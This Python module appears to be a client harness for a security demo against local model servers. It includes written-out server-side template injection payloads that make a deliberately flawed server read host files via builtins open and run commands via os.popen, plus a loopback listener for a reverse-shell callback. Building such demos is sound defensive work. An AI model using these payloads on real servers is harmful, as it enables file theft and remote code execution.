"""The callers of the model servers, honest and not, and the address that a stolen shell calls."""

from __future__ import annotations

import json
import socket
import subprocess
import threading
import time
from pathlib import Path
from typing import Any

import httpx

from deploy.demo.processes import DemoError, Processes

FLOWERS = ([5.1, 3.5, 1.4, 0.2], [6.0, 2.9, 4.5, 1.5], [6.9, 3.1, 5.4, 2.1])
"""One sample of each class."""


class Client:
    """HTTP client of one model server on this machine."""

    def __init__(self, port: int) -> None:
        self.port = port
        self._http = httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=30.0, trust_env=False)

    def close(self) -> None:
        self._http.close()

    def wait(self, processes: Processes, process: subprocess.Popen[bytes], timeout_s: float = 60.0) -> None:
        """Wait until /health answers 200.

        Raises:
            DemoError: the server ended, or did not answer in time.
        """
        deadline = time.monotonic() + timeout_s
        while True:
            try:
                if self._http.get("/health").status_code == 200:
                    return
            except httpx.TransportError:
                pass
            if process.poll() is not None or time.monotonic() > deadline:
                raise DemoError(f"the model server on port {self.port} did not answer:\n{processes.last_words(process)}")
            time.sleep(0.05)

    def post(self, path: str, body: Any) -> httpx.Response:
        """One request; raises httpx.HTTPStatusError unless it is answered well."""
        answer = self._http.post(path, json=body)
        answer.raise_for_status()
        return answer

    def health(self) -> None:
        """One health check; raises httpx.HTTPStatusError unless it is answered well."""
        self._http.get("/health").raise_for_status()

    def complete(self, times: int) -> None:
        """Completions of a llama.cpp server."""
        for number in range(times):
            self.post("/v1/completions", {"prompt": f"a b c {number}", "max_tokens": 4})

    def classify(self, times: int) -> None:
        """Predictions of the classifier; raises DemoError when one is wrong."""
        for number in range(times):
            if self.post("/predict", {"features": FLOWERS[number % 3]}).json() != {"label": number % 3}:
                raise DemoError("the classifier gave a wrong class")

    def feedback(self, number: int) -> Path:
        """Tell the classifier a right answer, which it keeps in a file; gives its path."""
        body = {"number": number, "features": FLOWERS[0], "label": 0}
        return Path(self.post("/feedback", body).json()["kept"])

    def report(self, title: str) -> str:
        """The report of the flawed server."""
        return self.post("/report", {"features": FLOWERS[0], "title": title}).text

    def read_through(self, path: str) -> str:
        """Make the flawed server read a file of its host, by an expression in the title."""
        opened = f"cycler.__init__.__globals__.__builtins__.open({json.dumps(path)})"
        return self.report("{{ " + opened + ".read() }}").rpartition(": class")[0]

    def run_through(self, command: str) -> str:
        """Make the flawed server run a command, by an expression in the title."""
        started = f"cycler.__init__.__globals__.os.popen({json.dumps(command)})"
        return self.report("{{ " + started + ".read() }}").rpartition(": class")[0]


class Callee:
    """A loopback address that takes one call, sends it ``line`` and keeps what comes back."""

    def __init__(self, line: str = "") -> None:
        self._line = line
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._socket.settimeout(60.0)
        self.port = int(self._socket.getsockname()[1])
        self._heard = b""
        self._thread = threading.Thread(target=self._take, daemon=True)
        self._thread.start()

    def _take(self) -> None:
        try:
            call, _ = self._socket.accept()
            with call:
                call.settimeout(30.0)
                call.sendall(self._line.encode())
                while len(self._heard) < 65536 and (part := call.recv(4096)):
                    self._heard += part
        except OSError:
            return

    def wait(self, timeout_s: float = 30.0) -> str:
        """What the caller said until it hung up. Raises DemoError when nobody called."""
        self._thread.join(timeout_s)
        if self._thread.is_alive() or not self._heard:
            raise DemoError(f"nothing called port {self.port} within {timeout_s:.0f} s")
        return self._heard.decode("utf-8", "replace")

    def close(self) -> None:
        self._socket.close()
